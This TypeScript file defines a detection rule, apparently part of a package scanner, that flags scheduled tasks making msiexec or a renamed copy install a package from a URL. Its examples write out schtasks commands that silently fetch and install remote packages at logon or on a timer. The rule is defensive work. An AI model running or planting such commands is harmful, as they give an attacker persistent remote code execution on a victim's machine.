import { matchSteps } from '../evidence.js';
import { DEXPHOT_REPORT } from '../reference.js';
import type { Rule } from '../rule.js';

export const scheduledMsiexecUrl: Rule = {
  id: 'scheduled-msiexec-url',
  title: 'A scheduled task makes msiexec fetch and install a package',
  severity: 'high',
  explanation:
    'The package creates a task that runs msiexec, or a renamed copy of it, with the URL of a package. Whoever controls the URL can install anything, each time the task runs.',
  attack: ['T1053.005', 'T1105', 'T1218.007'],
  references: [DEXPHOT_REPORT],
  match: (facts) =>
    matchSteps(facts, ({ command, meaning }) =>
      command.origin.kind === 'scheduled-task' &&
      meaning.kind === 'msiexec-install' &&
      meaning.url !== undefined
        ? `task ${JSON.stringify(command.origin.name)} installs ${meaning.url}`
        : undefined,
    ),
  examples: [
    {
      what: 'msiexec with a URL at logon',
      runs: ['schtasks /create /tn Update /sc onlogon /tr "msiexec /q /i http://host.example.net/x7fjq2"'],
    },
    {
      what: 'a copy of msiexec under another name',
      runs: [
        'schtasks /create /tn u /sc minute /mo 90 /tr "%AppData%\\u.exe /q /i http://host.example.net/x"',
      ],
    },
  ],
  counterExamples: [
    {
      what: 'an updater of the package with a URL',
      runs: [
        'schtasks /create /tn Update /sc daily /tr "C:\\x\\updater.exe --feed https://updates.example.com/f.xml"',
      ],
    },
    {
      what: 'a task in an action that nothing runs',
      unscheduled: ['schtasks /create /tn u /sc onlogon /tr "msiexec /q /i http://host.example.net/x"'],
    },
  ],
};
